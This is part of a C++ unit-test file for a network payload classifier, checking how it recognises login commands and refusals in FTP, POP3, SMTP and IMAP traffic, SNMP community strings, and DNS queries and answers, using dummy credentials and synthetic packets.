       {"USER root\r\n"sv, "user anonymous\r\n"sv, "USER a@b.example\n"sv, "PASS secret\r\n"sv, "PASS two words\r\n"sv,
        "PASS x"sv, "APOP bob c4c9334bac560ecc979e58001b3e22fb\r\n"sv, "AUTH LOGIN\r\n"sv,
        "AUTH PLAIN AGJvYgBzZWNyZXQ=\r\n"sv, "auth cram-md5\r\n"sv, "AUTH SCRAM-SHA-256 biws\r\n"sv,
        "a001 LOGIN bob secret\r\n"sv, "1 LOGIN \"bob\" \"secret\"\r\n"sv, "ABCD1 LOGIN bob secret"sv,
        ". login bob secret\r\n"sv, "A1 AUTHENTICATE PLAIN\r\n"sv})
    EXPECT_TRUE(signs_of(head, IPPROTO_TCP, 40000, 21).is_login_command) << head;
  for (const std::string_view head :
       {"USER\r\n"sv, "USERS all\r\n"sv, "PASSWORD x\r\n"sv, "PASS\r\n"sv, "PASV\r\n"sv, "USER bob 0 * :Bob\r\n"sv,
        "PASS secret\r\nNICK bob\r\nUSER bob 0 * :Bob\r\n"sv, "AUTH TLS\r\n"sv, "AUTH\r\n"sv, "AUTH secret\r\n"sv,
        "please login to your account\r\n"sv, "230 Login successful.\r\n"sv, "a001 LOGOUT\r\n"sv, "a001 SELECT INBOX\r\n"sv,
        "APOP bob\r\n"sv, "*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n"sv, " USER root\r\n"sv})
    EXPECT_FALSE(signs_of(head, IPPROTO_TCP, 40000, 21).is_login_command) << head;
}

TEST(PayloadSigns, KnowARefusedLogin) {
  for (const std::string_view head :
       {"530 Login incorrect.\r\n"sv, "530-Sorry, no ANONYMOUS access\r\n"sv, "530 \xd0\x9d\xd0\xb5\xd1\x82\r\n"sv,
        "535 5.7.8 Error: authentication failed: UGFzc3dvcmQ6\r\n"sv, "535-5.7.8 Username and Password not accepted.\r\n"sv,
        "535 Incorrect authentication data\r\n"sv, "-ERR\r\n"sv, "-ERR [AUTH] Authentication failed.\r\n"sv,
        "-ERR invalid password\r\n"sv, "-WRONGPASS invalid username-password pair or user is disabled.\r\n"sv,
        "-ERR Logon failure: unknown user name\r\n"sv, "a001 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"sv,
        "1 NO LOGIN failed\r\n"sv, "A1 NO [AUTHORIZATIONFAILED] x\r\n"sv, ". no Invalid credentials\r\n"sv})
    EXPECT_TRUE(signs_of(head, IPPROTO_TCP, 21, 40000).is_login_refused) << head;
  for (const std::string_view head :
       {"530 5.7.0 Must issue a STARTTLS command first\r\n"sv, "530 5.7.0 Authentication required\r\n"sv,
        "530 12.5 13.1\r\n"sv, "5300 x\r\n"sv, "230 Login successful.\r\n"sv, "331 Please specify the password.\r\n"sv,
        "550 5.1.1 User unknown\r\n"sv, "235 2.7.0 ok\r\n"sv, "+OK\r\n"sv, "-ERR no such message\r\n"sv,
        "-NOAUTH Authentication required.\r\n"sv, "-ERR unknown command 'AUTH'\r\n"sv,
        "-ERR wrong number of arguments for 'auth' command\r\n"sv, "-ERR value is not an integer or out of range\r\n"sv,
        "a001 NO [NONEXISTENT] Unknown Mailbox\r\n"sv, "a001 OK LOGIN completed\r\n"sv,
        "331 no login without password\r\n"sv, "there is no login here\r\n"sv})
    EXPECT_FALSE(signs_of(head, IPPROTO_TCP, 21, 40000).is_login_refused) << head;
}

std::optional<std::uint16_t> community_of(std::string_view head, std::uint16_t port = 161) {
  return signs_of(head, IPPROTO_UDP, 40000, port).snmp_community;
}

TEST(PayloadSigns, KnowTheCommunityOfAnSnmpRequest) {
  const std::string rest = "\xa0\x13\2\1\1\2\1\0\2\1\0\x30\x08\x30\6\6\2\x2b\6\5\0"s;
  const std::string first = "\x30\x20\2\1\1\4\6public"s + rest, second = "\x30\x21\2\1\0\4\7private"s + rest;
  ASSERT_TRUE(community_of(first) && community_of(second));
  EXPECT_NE(*community_of(first), *community_of(second));
  EXPECT_EQ(community_of("\x30\x81\x90\2\1\0\4\6public"s), community_of(first)) << "another length and version";
  EXPECT_EQ(community_of("\x30\x82\1\0\2\1\1\4\6public"s), community_of(first));
  EXPECT_EQ(community_of("\x30\x20\2\1\1\4\0"s), community_of("\x30\x20\2\1\0\4\0"s)) << "an empty one is one";
  EXPECT_FALSE(community_of(first, 162)) << "a trap";
  for (const std::string_view head :
       {"\x30\x20\2\1\3\4\6public"sv, "\x30\x20\2\2\0\1\4\6public"sv, "\x31\x20\2\1\1\4\6public"sv,
        "\x30\x20\2\1\1\x30\6public"sv, "\x30\x20\2\1\1\4\7public"sv, "\x30\x84\1\1\1\1\2\1\1\4\6public"sv})
    EXPECT_FALSE(community_of(head));
  for (std::size_t size = 0; size < 13; ++size) EXPECT_FALSE(community_of(first.substr(0, size))) << size;
}

/// A message with `questions` of the first name.
std::string dns_message(std::string_view name, bool is_answer = false, char code = 0, char questions = 1) {
  const char first = static_cast<char>(is_answer ? 0x84 : 0x01), second = static_cast<char>(is_answer ? 0x80 | code : code);
  return std::string{0x12, 0x34, first, second, 0, questions, 0, 0, 0, 0, 0, 0} + std::string(name) + "\0\0\1\0\1"s;
}

std::optional<PayloadSigns::Dns> dns_of(std::string_view message, std::uint16_t source_port = 40000,
                                        std::uint16_t destination_port = 53) {
  return signs_of(message, IPPROTO_UDP, source_port, destination_port).dns;
}

TEST(DnsHead, TellsQueryAndAnswer) {
  const auto query = dns_of(dns_message("\3www\7example"sv));
  ASSERT_TRUE(query);
  EXPECT_FALSE(query->is_answer);
  EXPECT_EQ(query->longest_label, 7);
  const auto answer = dns_of(dns_message("\3www\7example"sv, true, 3), 53, 40000);
  ASSERT_TRUE(answer);
  EXPECT_TRUE(answer->is_answer);
  EXPECT_EQ(answer->response_code, 3);
  EXPECT_EQ(answer->name_hash, query->name_hash);
  EXPECT_TRUE(dns_of(dns_message(""sv)));  // the root: NS of resolvers that prime
}

TEST(DnsHead, ComparesNamesWithoutCaseByLabels) {
  const auto hash = [](std::string_view name) { return dns_of(dns_message(name)).value().name_hash; };
  EXPECT_EQ(hash("\3wWw\7eXamPle"sv), hash("\3www\7example"sv));
  EXPECT_NE(hash("\3www\7example"sv), hash("\3wwx\7example"sv));
  EXPECT_NE(hash("\1a\1b"sv), hash("\3a\1b"sv));
  EXPECT_NE(hash("\1@"sv), hash("\1`"sv));  // differ as letters of the two cases do, but are none
  EXPECT_NE(hash("\1a"sv), hash(""sv));
}

TEST(DnsHead, KnowsTheLengthOfALabelThatIsCut) {
  const std::string message = dns_message("\x3f" + std::string(63, 'x') + "\x28" + std::string(40, 'y'));
  EXPECT_EQ(dns_of(std::string_view(message).substr(0, 40)).value().longest_label, 63);
  EXPECT_EQ(dns_of(std::string_view(message).substr(0, 13)).value().longest_label, 63);
  EXPECT_NE(dns_of(message).value().name_hash, dns_of(std::string_view(message).substr(0, 60)).value().name_hash);
}

TEST(DnsHead, IsNoneWhereThePortOrTheMessageIsAnother) {
  const std::string query = dns_message("\3www"sv), answer = dns_message("\3www"sv, true);
  EXPECT_FALSE(dns_of(query, 40000, 5353));
  EXPECT_FALSE(dns_of(query, 53, 40000));
  EXPECT_FALSE(dns_of(answer, 40000, 53));
  EXPECT_TRUE(dns_of(query, 53, 53));
  EXPECT_FALSE(signs_of(query, IPPROTO_TCP, 40000, 53).dns);
  EXPECT_FALSE(dns_of(dns_message("\3www"sv, false, 0, 2)));
  EXPECT_FALSE(dns_of(dns_message("\3www"sv, false, 0, 0)));
  EXPECT_FALSE(dns_of(dns_message("\x40" + std::string(64, 'a'))));  // label too long
  EXPECT_FALSE(dns_of(dns_message("\xc0\x0c"sv)));                   // compressed
  std::string update = query;
  update[2] = 0x28;
  EXPECT_FALSE(dns_of(update));
  std::string longest;
  for (int i = 0; i < 126; ++i) longest += "\1a";
  EXPECT_TRUE(dns_of(dns_message(longest)));  // 252 bytes and the root
  EXPECT_FALSE(dns_of(dns_message(longest + "\2aa")));
  for (std::size_t size = 0; size <= 12; ++size) EXPECT_FALSE(dns_of(std::string_view(query).substr(0, size))) << size;
}

TEST(DnsHead, HashesOfManyNamesDiffer) {
  std::set<std::uint64_t> hashes;
  for (int i = 0; i < 100000; ++i) {
    const std::string label = std::to_string(i);
    hashes.insert(dns_of(dns_message(std::string(1, static_cast<char>(label.size())) + label + "\4test")).value().name_hash);
  }
  EXPECT_EQ(hashes.size(), 100000u);
}

TEST(PayloadSigns, OfNoiseAreNone) {
  std::mt19937 random(1);
  for (int i = 0; i < 100000; ++i) {
    std::array<std::uint8_t, 128> head;
    std::generate(head.begin(), head.end(), [&] { return static_cast<std::uint8_t>(random()); });
    const PayloadSigns signs = read_signs(IPPROTO_TCP, 40000, 443, head);
    EXPECT_FALSE(signs.is_http_request || signs.http_status != 0 || signs.is_ssh_banner || signs.is_login_command ||
                 signs.is_login_refused);
  }
}

}  // namespace
}  // namespace weir
